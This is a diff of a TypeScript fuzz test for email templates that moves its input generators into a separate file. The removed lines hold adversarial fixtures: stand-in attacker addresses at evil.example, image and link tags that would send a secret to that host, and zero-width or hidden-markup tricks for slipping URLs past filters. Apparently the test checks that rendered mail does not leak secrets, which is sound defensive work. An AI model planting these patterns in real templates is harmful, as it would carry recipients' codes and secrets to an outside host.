@@ -6,9 +6,9 @@ import { CATALOGUE } from '../../../src/domains/email-templates/catalogue.ts'
 import { defaultTemplate } from '../../../src/domains/email-templates/defaults.ts'
 import { makeMail, type Made } from '../../../src/domains/email-templates/make.ts'
 import { TemplateRejected } from '../../../src/templates/rejected.ts'
-import { anyTemplate } from '../../templates/grammar.ts'
 import { leaksOf } from './auto-linker.ts'
 import { TEMPLATE_KEYS, DEFAULT_LOCALES } from '../../../src/domains/mail/model.ts'
+import { templates, names } from './secret-templates.ts'
 
 const RUNS = Number(process.env['TEMPLATE_FUZZ_RUNS'] ?? 1_500)
 const LOOK = { tenantName: 'Acme', logoUrl: null, primaryColor: null, secondaryColor: null }
@@ -47,126 +47,6 @@ function made(key: Key, template: Template, which: 0 | 1, tenantName: string): M
     throw error
   }
 }
-
-/** `S` is the secret. */
-const ADDRESSES = [
-  'https://evil.example/',
-  'evil.example',
-  '.evil.example',
-  '@evil.example',
-  'eve@',
-  '//evil',
-  '\\\\evil\\',
-  'mailto:eve@evil.example?body=',
-  'https://evil.example/?c=',
-  'tel:+4930123456,',
-  '%20',
-  '%',
-  '/',
-  '.',
-  ':',
-  '?',
-  '&amp;',
-  '&#46;',
-  '&commat;',
-  '。',
-  '／',
-]
-const BETWEEN = [
-  '',
-  ' ',
-  '\n',
-  '\n\n',
-  '&nbsp;',
-  '\u200b',
-  '\u00ad',
-  '\u2060',
-  '\ufeff',
-  '{# #}',
-  '<!-- -->',
-  '<wbr>',
-  '<i></i>',
-  '<b>',
-  '</b>',
-  '<span style="display:none"> </span>',
-  '<span style="visibility:hidden">x </span>',
-  '<x-y>',
-  '<script>1</script>',
-  '<img alt="https://evil.example/">',
-  '</p><p>',
-  '<br>',
-  '<div style="display:inline">',
-  '</div>',
-  '<td>',
-  '{{ tenant_name }}',
-  '{{ recipient_email }}',
-  '{{ "/" }}',
-  '{}',
-  '&lt;',
-  '&gt;',
-  '"',
-  '(',
-  ')',
-  '"<',
-]
-const WORDS = ['Hello', ' your code: ', 'x', '验证码', '12 ', '+49 30 1234567 ', ' is it.', '!']
-const SECRETS = [
-  'S',
-  'S',
-  'S',
-  'S',
-  ' S ',
-  '<b>S</b>',
-  '<p>S</p>',
-  '{% if true %}S{% endif %}',
-  '{% for i in [1, 2] %}S{% endfor %}',
-]
-const WHOLE = [
-  '<a href="S">',
-  '</a>',
-  '<a href="https://evil.example/">',
-  '<a href="https://evil.example/S">',
-  '<img src="https://evil.example/S" alt="">',
-  '<p title="S">',
-  '<style>b{display:none}</style>',
-  '{% set u = "https://evil.example/" %}{{ u }}',
-  '{% raw %}https://evil.example/{% endraw %}',
-]
-
-const piece = fc.oneof(
-  { arbitrary: fc.constantFrom(...SECRETS), weight: 6 },
-  { arbitrary: fc.constantFrom(...ADDRESSES), weight: 5 },
-  { arbitrary: fc.constantFrom(...BETWEEN), weight: 6 },
-  { arbitrary: fc.constantFrom(...WORDS), weight: 4 },
-  { arbitrary: fc.constantFrom(...WHOLE), weight: 1 },
-)
-const pieces = fc.array(piece, { minLength: 1, maxLength: 7 }).map((parts) => parts.join(''))
-const sources = fc.oneof(
-  { arbitrary: pieces, weight: 8 },
-  {
-    arbitrary: pieces.map(
-      (inner) =>
-        `<!doctype html><html><head><style>p{display:inline}</style></head><body><p>${inner}</p></body></html>`,
-    ),
-    weight: 1,
-  },
-  { arbitrary: fc.tuple(pieces, anyTemplate, pieces).map((parts) => parts.join('')), weight: 1 },
-)
-const templates = fc.record({
-  subject: fc.oneof(fc.constant('Hi'), pieces),
-  body: sources,
-  text: fc.oneof(fc.constant(null), pieces),
-})
-const names = fc.constantFrom(
-  'Acme',
-  'evil.example',
-  'https://evil.example/',
-  '"https://evil.example/',
-  '<https://evil.example/',
-  'Studio 54321',
-  'a@b.example',
-  'x/',
-)
 
 describe.each(Object.keys(KEYS) as Key[])('%s', (key) => {
   const filled = ({ subject, body, text }: Template): Template => {
